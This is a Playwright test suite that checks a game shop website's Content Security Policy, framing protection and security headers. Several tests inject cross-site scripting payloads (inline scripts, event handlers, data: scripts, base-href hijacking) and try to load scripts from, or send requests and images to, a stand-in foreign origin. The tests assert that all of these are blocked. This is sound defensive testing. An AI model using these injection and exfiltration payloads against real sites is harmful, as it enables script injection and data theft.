import { createHash } from 'node:crypto'
import type { Page } from '@playwright/test'
import { expect, test } from '../support/fixtures.ts'
import { serveForeignOrigin } from '../support/foreign-origin.ts'
import { routes } from '../support/route-table.ts'
import { watchViolations } from '../support/violations.ts'

/** What Chromium logs about blocked content. These tests record it themselves. */
const REFUSALS = /Content Security Policy|Trusted(HTML|Script|ScriptURL|Type)/

const pwned = (page: Page) => page.evaluate(() => Reflect.get(window, 'pwned') ?? null)

/** Time in which blocked code would run if it were not blocked, in ms. */
const settled = (page: Page) => page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))

test('no page of the site tries what its own policy refuses', async ({ page }) => {
  test.setTimeout(180_000)
  const violations = await watchViolations(page)
  for (const { path, heading } of routes) {
    await page.goto(path)
    await expect(page.getByRole('heading', { level: 1, name: heading, exact: true })).toBeVisible()
    await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight))
    await settled(page)
    expect(violations, path).toEqual([])
  }
})

test('nor does a visit that goes from page to page without loading one anew', async ({ page }) => {
  const violations = await watchViolations(page)
  await page.goto('/')
  for (const [link, heading] of [
    ['SHOP', 'Web Shop'],
    ['GAMES', 'Games'],
    ['ACCOUNT', 'Account'],
    ['FAQ', 'FAQ'],
  ] as const) {
    await page.getByRole('link', { name: link, exact: true }).first().click()
    await expect(page.getByRole('heading', { level: 1, name: heading })).toBeVisible()
  }
  await page.goto('/shop')
  await page.getByRole('main').getByRole('link', { name: "Steve Jackson's F.I.S.T.", exact: true }).click()
  await expect(page.getByRole('heading', { level: 1, name: "Steve Jackson's F.I.S.T." })).toBeVisible()
  expect(violations).toEqual([])
})

test.describe('with consent to everything', () => {
  test.use({ decided: { analytics: true, frames: true } })

  test('counting, the newsletter form and a video work within the policy', async ({ page, stack }) => {
    const violations = await watchViolations(page)
    await page.route('https://www.youtube-nocookie.com/**', (route) => route.fulfill({ body: 'A video.' }))
    const counted = page.waitForResponse(`${stack.services}/collector/g/collect*`)
    await page.goto('/fist')
    expect((await counted).status()).toBe(204)
    await page.getByRole('button', { name: 'Play video: F.I.S.T.: trailer' }).click()
    await expect(page.frameLocator('iframe[title="F.I.S.T.: trailer"]').getByText('A video.')).toBeVisible()
    await page.getByRole('region', { name: 'Hear it first' }).scrollIntoViewIfNeeded()
    const form = page.locator('iframe[title="Newsletter sign-up"]').filter({ visible: true }).contentFrame()
    await expect(form.getByRole('button', { name: 'Subscribe' })).toBeVisible()
    expect(violations).toEqual([])
  })
})

test('a script that gets into the HTML doesn’t run, inline, as a handler or from elsewhere', async ({
  page,
  allowNoise,
}) => {
  allowNoise(REFUSALS)
  const stranger = await serveForeignOrigin()
  const violations = await watchViolations(page)
  await page.route('/fist', async (route) => {
    const response = await route.fetch()
    const injected = `<script>window.pwned = 'inline'</script><svg onload="window.pwned = 'handler'"></svg>
      <img src="/nothing.png" alt="" onerror="window.pwned = 'handler'"><base href="${stranger.origin}/">
      <script src="${stranger.origin}/evil.js"></script><script type="module" src="${stranger.origin}/m.js"></script>
      <script src="data:text/javascript,window.pwned='data'"></script>
      <link rel="stylesheet" href="${stranger.origin}/evil.css"><style>body { display: none }</style>`
    const body = (await response.text()).replace('<div id="root"', `${injected}<div id="root"`)
    await route.fulfill({ response, body })
  })
  allowNoise(/nothing\.png/)
  // Chromium doesn’t know the origin of a page that a test fulfils, and blocks its requests to this machine.
  allowNoise(/address space|net::ERR_FAILED/)
  await page.goto('/fist')
  await expect(page.getByRole('heading', { level: 1, name: 'F.I.S.T.' })).toBeVisible()
  await settled(page)
  expect(await pwned(page)).toBeNull()
  expect(stranger.asked).toEqual([])
  stranger.close()
  const refused = new Set(violations.map((line) => line.split(':')[0]))
  expect([...refused].sort()).toEqual(['base-uri', 'script-src-attr', 'script-src-elem', 'style-src-elem'])
})

/** Ways in which text becomes code in an open page; each must throw or do nothing. */
function attacks(foreign: string) {
  const code = 'window.pwned = "run"'
  const attempts: Record<string, () => unknown> = {
    innerHTML: () => {
      document.body.innerHTML += `<img src="/x.png" onerror='${code}'>`
    },
    srcdoc: () => {
      const frame = document.createElement('iframe')
      frame.srcdoc = `<script>parent.${code}</script>`
      document.body.append(frame)
    },
    handler: () => {
      const button = document.createElement('button')
      button.setAttribute('onclick', code)
      button.click()
    },
    'inline script': () => {
      const script = document.createElement('script')
      script.append(code)
      document.body.append(script)
    },
    'script text': () => {
      const script = document.createElement('script')
      script.textContent = code
    },
    'foreign script': () => {
      const script = document.createElement('script')
      script.src = `${foreign}/evil.js`
      document.body.append(script)
    },
    eval: () => Reflect.apply(Reflect.get(window, 'eval'), window, [code]),
    Function: () => new Function(code)(),
    timer: () => window.setTimeout(code),
    'javascript: link': () => {
      const link = document.createElement('a')
      link.href = `javascript:${code}`
      document.body.append(link)
      link.click()
    },
    worker: () => new Worker(URL.createObjectURL(new Blob([code]))),
    'foreign import': () => import(`${foreign}/evil.js`).catch(() => {}),
    'foreign request': () => fetch(foreign).catch(() => {}),
    'foreign image': () => {
      const image = new Image()
      image.src = `${foreign}/leak.png`
    },
    'foreign form': () => {
      const form = document.createElement('form')
      form.action = foreign
      document.body.append(form)
      form.submit()
    },
  }
  // In a separate task: the browser allows its debugger what it does not allow a page.
  const ended = Object.entries(attempts).map(
    ([name, attempt]) =>
      new Promise<string>((resolve) => {
        setTimeout(() => {
          try {
            attempt()
            resolve(`${name}: silent`)
          } catch {
            resolve(`${name}: thrown`)
          }
        })
      }),
  )
  return Promise.all(ended)
}

test('nothing that an open page is handed becomes a script, and nothing leaves for elsewhere', async ({
  page,
  allowNoise,
}) => {
  allowNoise(REFUSALS)
  allowNoise(/Refused to|violates|ERR_BLOCKED_BY_CSP/)
  const stranger = await serveForeignOrigin()
  await page.goto('/faq')
  const ended = await page.evaluate(attacks, stranger.origin)
  await settled(page)
  expect(await pwned(page)).toBeNull()
  expect(stranger.asked).toEqual([])
  stranger.close()
  const thrown = ended.filter((line) => line.endsWith('thrown')).map((line) => line.split(':')[0])
  expect(thrown).toEqual(
    expect.arrayContaining([
      'innerHTML',
      'srcdoc',
      'script text',
      'foreign script',
      'eval',
      'Function',
      'timer',
    ]),
  )
  expect(await page.evaluate(() => location.pathname)).toBe('/faq')
})

test('no other origin can frame the site', async ({ page, stack, allowNoise }) => {
  allowNoise(/frame-ancestors|Content Security Policy|favicon\.ico/)
  const stranger = await serveForeignOrigin(`<iframe src="${stack.site}/shop" title="site"></iframe>`)
  const framed = page.waitForResponse(`${stack.site}/shop`)
  await page.request.get(stack.site)
  await page.evaluate((address) => void window.location.assign(address), stranger.origin)
  expect((await framed).headers()['content-security-policy']).toContain('frame-ancestors')
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0)
  expect(page.frames().map((frame) => frame.url())).not.toContain(`${stack.site}/shop`)
  stranger.close()
})

test('the browser knows every feature that the permissions policy names', async ({ context }) => {
  const page = await context.newPage()
  const warnings: string[] = []
  page.on('console', (message) => {
    if (/permissions-policy/i.test(message.text())) warnings.push(message.text())
  })
  await page.goto('/')
  // The browser reads the header before it runs the page, so a warning has come by now.
  await page.evaluate(() => console.info('permissions-policy: read'))
  await expect.poll(() => warnings).toEqual(['permissions-policy: read'])
})

test('every answer says it, whatever it is, and none sets a cookie', async ({ request }) => {
  const script = /data-entry="([^"]+)"/.exec(await (await request.get('/')).text())?.[1] ?? ''
  const answers = [
    ['/', 200],
    ['/shop/product/fod', 200],
    ['/account', 200],
    ['/shop/success?session_id=cs_test', 200],
    [script, 200],
    ['/assets/gone.js', 404],
    ['/favicon.svg', 200],
    ['/there/is/no-such-page', 404],
    ['/coc_aatt', 301],
    ['/press/rss.xml', 200],
    ['/sitemap.xml', 200],
    ['/robots.txt', 200],
    ['/api/health', 200],
    ['/api/orders', 401],
    ['/cdn/files/evil/production/evil.js', 404],
    ['/cdn/images/evil/production/evil-1x1.svg', 404],
  ] as const
  for (const [path, status] of answers) {
    const answer = await request.get(path, { maxRedirects: 0 })
    const headers = answer.headers()
    expect([path, answer.status()]).toEqual([path, status])
    expect(headers['content-security-policy'], path).toContain("default-src 'none'")
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'permissions-policy': expect.stringContaining('camera=()'),
    })
    expect(headers, path).not.toHaveProperty('set-cookie')
  }
})

test('a page’s policy names its own inline elements by their hashes, and nothing is let in unsafely', async ({
  request,
}) => {
  const answer = await request.get('/fist')
  const policy = answer.headers()['content-security-policy'] ?? ''
  const html = await answer.text()
  const texts = [
    ...html.matchAll(
      /<(?:style|script (?:data-entry|type="speculationrules")[^>]*)>([^<]*(?:<(?!\/)[^<]*)*)</g,
    ),
  ].map(([, text = '']) => createHash('sha256').update(text).digest('base64'))
  expect(texts).toHaveLength(3)
  const ofPreview = createHash('sha256').update('').digest('base64')
  const named = [...policy.matchAll(/'sha256-([^']+)'/g)].map(([, hash]) => hash)
  expect(named.sort()).toEqual([...texts, ofPreview].sort())
  expect(policy).not.toMatch(/unsafe|\*/)
  expect(html).not.toMatch(/<[^>]* (style|on\w+)=/)
})

test('an image of content is only ever an image', async ({ request }) => {
  const html = await (await request.get('/fist')).text()
  const image = /\/cdn\/images\/[^ "]+/.exec(html)?.[0].replaceAll('&amp;', '&') ?? ''
  const answer = await request.get(image)
  expect(answer.headers()).toMatchObject({
    'content-type': expect.stringContaining('image/'),
    'content-security-policy': "default-src 'none'; frame-ancestors 'none'; sandbox",
    'x-content-type-options': 'nosniff',
  })
})
